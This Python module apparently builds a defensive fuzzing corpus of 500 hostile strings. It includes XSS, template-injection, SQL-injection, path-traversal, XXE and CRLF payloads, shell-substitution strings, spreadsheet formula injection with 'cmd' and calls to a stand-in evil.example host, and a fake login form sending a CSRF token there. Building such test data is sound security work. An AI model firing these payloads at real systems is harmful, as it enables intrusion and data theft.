"""Five hundred texts that try to be more than text: markup, templates, directions, ANSI, formulas, endless words."""

from itertools import product

_RUN = "document.body.dataset.ran=1"

_BREAKS = (
    "",
    '"',
    "'",
    "`",
    ">",
    '">',
    "'>",
    "-->",
    "]]>",
    "</p>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</td></tr></table>",
    "</pre></code>",
)
_MARKUP = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt\n>{_RUN}</sCrIpT\t>",
    f"<img src=x onerror={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>{_RUN}</script>'>",
    f"<a href='javascript:{_RUN}'>press</a>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}>",
    f"<math><mtext><table><mglyph><style><img src onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    "<form action=//evil.example><input name=csrf_token><button>Log in again</button>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none!important}</style>",
    f"<template shadowrootmode=open><script>{_RUN}</script></template>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<h1>All customers were served</h1><tr><td>one more row</td></tr>",
)
_ATTRIBUTES = tuple(
    f"{quote}{gap}{handler}={quote}{_RUN}{quote} x={quote}"
    for quote, gap, handler in product(
        ('"', "'"), (" ", "/", "\n", "\x0c", "\t"), ("onmouseover", "onfocus", "onpointerenter", "style", "formaction")
    )
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(9) %}{{ x }}{% endfor %}",
    "{% raw %}{{ config }}{% endraw %}",
    "{# a comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[${7*7}]]",
    "%(number)s",
    "%s %d %n %%",
    "{0} {number} {reference!r}",
    "$(id) `id` ; id | id && id",
    "{{constructor.constructor('document.body.dataset.ran=1')()}}",
)
_ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;amp; &copy &notin; &nbsp;&shy;",
    "\\u003cscript\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-",
    "\u2028<script>\u2029",
    "data:text/html;base64,PHNjcmlwdD4=",
    "javascript:document.body.dataset.ran=1",
    "JaVaScRiPt&colon;alert(1)",
    "vbscript:msgbox(1)",
)
_DIRECTIONS = tuple(
    f"{before}{text}{after}"
    for (before, after), text in product(
        (
            ("\u202e", ""),
            ("\u202e", "\u202c"),
            ("\u202d", ""),
            ("\u2066", "\u2069"),
            ("\u2067", ""),
            ("\u2068", ""),
            ("\u200f", "\u200e"),
            ("\u061c", ""),
        ),
        ("gnp.exe", "admin@example.com", "123 456", "שלום world", "مرحبا (1)", "closed by Alex"),
    )
)
_INVISIBLE = (
    "a\u200bb\u200cc\u200dd\ufeffe",
    "\u00ad".join("invisible"),
    "\u2060".join("joined"),
    "\u3164\u115f\u1160\uffa0",
    "\u2000\u2001\u2002\u2003\u3000x",
    "x" + "\u0301" * 200,
    "Z" + "\u0351\u0489\u0321" * 60,
    "\N{PILE OF POO}\u200d\N{ROCKET}\ufe0f" * 30,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 20,
    "\U000e0041\U000e0042tags",
    "﷽" * 40,
    "𒐫" * 40,
    "\u2028line\u2029paragraph",
    "ſtraße ĳ ŉ ﬁ İı",
)
_ANSI = tuple(
    f"\u241b{code}" if n % 2 else f"[{code} \\x1b[{code} \\033[{code}"
    for n, code in enumerate(
        ("2J", "31m", "1;1H", "?25l", "0K", "8m", "]0;title", "]8;;http://evil.example", "c", "?47h")
    )
)
_FORMULAS = tuple(
    f"{sign}{body}"
    for sign, body in product(
        ("=", "+", "-", "@", "\t=", "\r\n=", "＝", "＋", "－", "＠", ' "=', ";="),
        (
            'HYPERLINK("//evil.example","press")',
            "cmd|' /C calc'!A0",
            "1+1",
            "SUM(1:1048576)",
            'IMPORTXML("//evil.example","//a")',
            'WEBSERVICE("//evil.example")',
        ),
    )
)
_LONG = (
    "W" * 1000,
    "i" * 1024,
    "Donaudampfschifffahrtsgesellschaftskapitänsmützenabzeichenverordnung" * 12,
    "https://example.com/" + "a/" * 400,
    "." * 900,
    "-" * 900,
    "字" * 900,
    "ا" * 900,
    "\n" * 300 + "end",
    "word " * 200,
    "\u00a0" * 500 + "x",
    "a\u00a0" * 400,
)
_MACHINES = (
    "'; DROP TABLE tickets; --",
    '" OR ""="',
    "1; SELECT pg_sleep(9)",
    "%' ESCAPE '",
    "_%_%_%",
    "../../../../etc/passwd",
    "\\\\evil.example\\share",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    '{"__proto__": {"ran": 1}}',
    "__proto__",
    "constructor",
    "NaN",
    "null",
    "undefined",
    "-1",
    "1e309",
    "0x7fffffff",
    "true",
    "Content-Type: text/html\nSet-Cookie: x=y",
    "data: changed\n\ndata: {}\n\n",
    "event: end\nid: 1",
    "%0d%0aSet-Cookie:x=y",
)


def _five_hundred() -> tuple[str, ...]:
    broken_out = [f"{start}{markup}" for start, markup in product(_BREAKS, _MARKUP)]
    others = [
        *_ATTRIBUTES,
        *_TEMPLATES,
        *_ENCODED,
        *_DIRECTIONS,
        *_INVISIBLE,
        *_ANSI,
        *_FORMULAS,
        *_LONG,
        *_MACHINES,
    ]
    found = dict.fromkeys(text.replace("\r\n", "\n").replace("\x0c", " ") for text in [*others, *broken_out])
    return tuple(found)[:500]


HOSTILE = _five_hundred()
